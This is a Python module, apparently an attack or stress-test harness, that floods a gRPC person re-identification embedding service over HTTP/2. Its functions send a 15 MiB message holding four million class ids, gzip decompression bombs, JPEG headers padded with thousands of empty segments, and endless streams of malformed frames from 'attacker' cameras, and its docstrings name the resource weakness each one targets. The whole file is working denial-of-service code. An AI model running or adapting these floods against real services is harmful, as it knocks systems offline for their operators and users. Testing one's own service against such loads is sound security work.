"""Messages that are cheap to send and expensive to read, on the one thread that serves everybody."""

from __future__ import annotations

import os

from reidstream_proto.v1 import service_pb2, session_pb2

from .http2 import Http2, prefix
from .messages import crops_of_segments, empty_boxes, gzipped, numbered, opening, picture_frame
from .target import EMBED_STREAM, Target, again, answer_of, channel_to, stream_on, together

_GZIP = {"grpc-encoding": "gzip"}


async def class_ids(target: Target, *, count: int = 4_000_000) -> None:
    """A SessionOpen with four million class ids, 15 MiB, again and again.

    Aims at: repeated fields without a bound: memory, and seconds of the event loop.
    """
    message = session_pb2.SessionOpen(session_id=os.urandom(16))
    message.options.camera_id = "attacker"
    message.options.models.add().class_ids.extend(range(count))
    data = service_pb2.EmbedStreamRequest(session_open=message).SerializeToString()
    del message

    async def attempt() -> None:
        async with channel_to(target) as channel:
            call = stream_on(channel)
            target.became["openings sent"] += 1
            await call.write(data)
            target.became["no answer" if await answer_of(call) is None else "session opened"] += 1

    await again(target, attempt)


async def gzipped_boxes(target: Target, *, mib: int = 63) -> None:
    """Frames of 63 MiB of empty boxes, gzipped to 64 kB.

    Aims at: what a message costs once it is inflated, and parsing without a budget.
    """
    await _gzipped(target, empty_boxes(mib * 2**20))


async def gzipped_headers(target: Target, *, crops: int = 1000, segments: int = 1024) -> None:
    """Frames of 1,000 crops whose JPEG headers have 1,024 empty segments each, gzipped to 6 kB.

    Aims at: the time that it takes to read headers, which nobody pays for: such a frame is refused at once.
    """
    await _gzipped(target, crops_of_segments(crops, segments))


async def crop_headers(target: Target, *, crops: int = 1000, segments: int = 1024) -> None:
    """The same frames as they are, 4 MB each: a server that takes nothing compressed still has to read them.

    Aims at: the time that it takes to read the headers of many ready crops, all of which are then refused.
    """
    body = crops_of_segments(crops, segments)

    async def stream(camera: int) -> None:
        async with Http2(target.host, target.port) as connection:
            first = opening(f"attacker-{camera}")
            call = await connection.call(EMBED_STREAM, target.headers)
            await connection.data(call, prefix(len(first)) + first)
            for number in range(1, 2**31):
                head = numbered(body, number)
                await connection.data(call, prefix(len(head) + len(body)) + head)
                await connection.data(call, body)
                target.became["frames sent"] += 1

    await together(2, lambda camera: again(target, lambda: stream(camera)))


async def damaged_pictures(target: Target, *, segments: int = 1024) -> None:
    """Small frames whose picture is a JPEG header of 1,024 empty segments, without a picture, as fast as they go.

    Aims at: frames that are refused, and so take no window and no place in the queue: nothing slows their sender down.
    """
    file = b"\xff\xd8" + b"\xff\xe0\x00\x02" * segments + b"\xff\xd9"

    async def stream(camera: int) -> None:
        async with Http2(target.host, target.port) as connection:
            first = opening(f"attacker-{camera}")
            call = await connection.call(EMBED_STREAM, target.headers)
            await connection.data(call, prefix(len(first)) + first)
            for number in range(1, 2**31):
                message = picture_frame(number, file)
                await connection.data(call, prefix(len(message)) + message)
                target.became["frames sent"] += 1

    await together(2, lambda camera: again(target, lambda: stream(camera)))


async def _gzipped(target: Target, body: bytes) -> None:
    message = gzipped(numbered(body, 1) + body)
    del body

    async def stream(number: int) -> None:
        async with Http2(target.host, target.port) as connection:
            first = gzipped(opening(f"attacker-{number}"))
            call = await connection.call(EMBED_STREAM, {**_GZIP, **target.headers})
            await connection.data(call, prefix(len(first), compressed=True) + first)
            while True:  # the second has an old frame id, which is found out only when all is read
                await connection.data(call, prefix(len(message), compressed=True) + message)
                target.became["frames sent"] += 1

    await together(2, lambda number: again(target, lambda: stream(number)))
